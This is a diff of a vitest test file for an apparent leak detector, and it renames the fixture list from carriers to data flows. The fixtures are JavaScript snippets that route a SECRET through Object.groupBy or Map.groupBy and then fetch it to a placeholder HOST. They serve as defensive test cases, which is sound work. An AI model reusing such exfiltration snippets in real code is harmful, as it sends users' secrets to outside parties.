@@ -1,7 +1,12 @@
 import { describe, test } from "vitest";
-import { type Carrier, expectHarmlessOnOwnSite, expectHarmlessWithoutSecret, expectLeak } from "../testing/carriers.ts";
+import {
+	type DataFlow,
+	expectHarmlessOnOwnSite,
+	expectHarmlessWithoutSecret,
+	expectLeak,
+} from "../testing/data-flow-checks.ts";
 
-const CARRIERS: readonly Carrier[] = [
+const FLOWS: readonly DataFlow[] = [
 	["a group of an object", "const g = Object.groupBy([SECRET], () => 'a'); fetch('HOST/' + g.a[0]);"],
 	["a group of a map", "const g = Map.groupBy([SECRET], () => 'a'); fetch('HOST/' + g.get('a')[0]);"],
 	["any group", "for (const group of Object.values(Object.groupBy([SECRET], (x) => x[0]))) fetch('HOST/' + group);"],
@@ -11,7 +16,7 @@ const CARRIERS: readonly Carrier[] = [
 ];
 
 describe("grouping", () => {
-	test.each(CARRIERS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
-	test.each(CARRIERS)("%s is harmless without a secret", (_title, code) => expectHarmlessWithoutSecret(code));
-	test.each(CARRIERS)("%s is harmless on the page's own site", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
+	test.each(FLOWS)("%s is harmless without a secret", (_title, code) => expectHarmlessWithoutSecret(code));
+	test.each(FLOWS)("%s is harmless on the page's own site", (_title, code) => expectHarmlessOnOwnSite(code));
 });
